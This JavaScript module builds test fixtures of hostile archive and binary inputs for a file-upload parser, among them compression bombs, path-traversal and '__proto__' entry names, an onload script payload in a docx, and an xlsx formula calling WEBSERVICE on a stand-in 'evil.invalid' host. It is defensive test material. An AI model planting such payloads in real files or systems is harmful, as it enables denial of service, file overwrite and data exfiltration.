/** Archives and binary files: bombs, lies, foreign kinds. Out: items. */
import { strToU8, zipSync } from 'fflate';
import { harmless, refused } from './item.js';

/** @param {Record<string, string | Uint8Array>} files @param {number} [level] */
const zip = (files, level = 6) =>
	zipSync(
		Object.fromEntries(
			Object.entries(files).map(([name, content]) => [
				name,
				typeof content === 'string' ? strToU8(content) : content
			])
		),
		{ level: /** @type {0 | 6 | 9} */ (level), mtime: new Date('2020-01-02') }
	);

const TYPES =
	'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
const BOOK =
	'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>';
const RELS =
	'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>';
/** @param {string} sheet */
const xlsx = (sheet, more = {}) =>
	zip({
		'[Content_Types].xml': TYPES,
		'xl/workbook.xml': BOOK,
		'xl/_rels/workbook.xml.rels': RELS,
		'xl/worksheets/sheet1.xml': sheet,
		...more
	});
/** @param {string} rows */
const sheet = (rows) =>
	`<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`;

/** A byte of an archive changed, from the end. @param {Uint8Array} bytes @param {number} at */
function flip(bytes, at) {
	const copy = Uint8Array.from(bytes);
	copy[at] = (copy[at] ?? 0) ^ 0xff;
	return copy;
}

export function listHostileArchives() {
	const csv = zip({ 'edges.csv': 'source,target\na,b\nb,c\n' });
	const pwned = '<x onload="window.__pwned=1"/>';
	return [
		refused('bomb.zip', zip({ 'edges.csv': new Uint8Array(300 * 1024 * 1024).fill(97) }, 9)),
		refused('bomb.xlsx', xlsx(`${sheet('')}${' '.repeat(250 * 1024 * 1024)}`)),
		refused(
			'many-entries.zip',
			zip(Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`f${i}.csv`, 'a'])))
		),
		refused('nested.zip', zip({ 'inner.zip': csv })),
		refused('empty.zip', zip({})),
		refused('truncated.zip', csv.slice(0, csv.length - 30)),
		refused('damaged.zip', flip(csv, 45)),
		refused('only-pictures.zip', zip({ 'a.png': new Uint8Array([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]) })),
		refused('document.docx', zip({ '[Content_Types].xml': TYPES, 'word/document.xml': pwned })),
		refused('entity.xlsx', xlsx(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]>${sheet('').slice(21)}`)),
		refused('broken-sheet.xlsx', xlsx('<worksheet><sheetData><row>')),
		refused(
			'no-sheet.xlsx',
			zip({ '[Content_Types].xml': TYPES, 'xl/workbook.xml': BOOK, 'xl/_rels/workbook.xml.rels': RELS })
		),
		refused(
			'old.xls',
			new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Uint8Array(600)])
		),
		refused('picture.png', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, ...new Uint8Array(200)])),
		refused(
			'photo.jpg',
			new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, ...new Uint8Array(200)])
		),
		refused('paper.pdf', '%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n1 0 obj\n<<>>\nendobj\n'),
		refused(
			'packed.gz',
			new Uint8Array([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 75, 76, 4, 0, 67, 190, 183, 232, 1, 0, 0, 0])
		),
		refused('program.exe', new Uint8Array([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0, ...new Uint8Array(200)])),
		refused('database.sqlite', new Uint8Array([...strToU8('SQLite format 3\0'), ...new Uint8Array(200)])),
		refused(
			'noise.bin',
			Uint8Array.from({ length: 5_000 }, (_, i) => (i * 7919 + (i >> 3) * 31) & 0xff)
		),
		refused('zeros.bin', new Uint8Array(10_000)),
		refused('empty.csv', new Uint8Array()),
		harmless('climbing.zip', zip({ '../../etc/edges.csv': 'source,target\na,b\n' })),
		harmless('absolute.zip', zip({ '/etc/edges.csv': 'source,target\na,b\n' })),
		harmless('prototype-name.zip', zip({ '__proto__/edges.csv': 'source,target\na,b\n' })),
		harmless(
			'formula.xlsx',
			xlsx(
				sheet(
					'<row r="1"><c r="A1" t="inlineStr"><is><t>source</t></is></c><c r="B1" t="inlineStr"><is><t>target</t></is></c></row><row r="2"><c r="A2"><f>WEBSERVICE("https://evil.invalid/")</f><v>1</v></c><c r="B2" t="inlineStr"><is><t>=1+1</t></is></c></row>'
				)
			)
		),
		harmless(
			'far-cell.xlsx',
			xlsx(
				sheet(
					'<row r="1"><c r="A1" t="inlineStr"><is><t>source</t></is></c><c r="XFD1" t="inlineStr"><is><t>target</t></is></c></row><row r="1048576"><c r="A1048576"><v>1</v></c></row>'
				)
			)
		)
	];
}
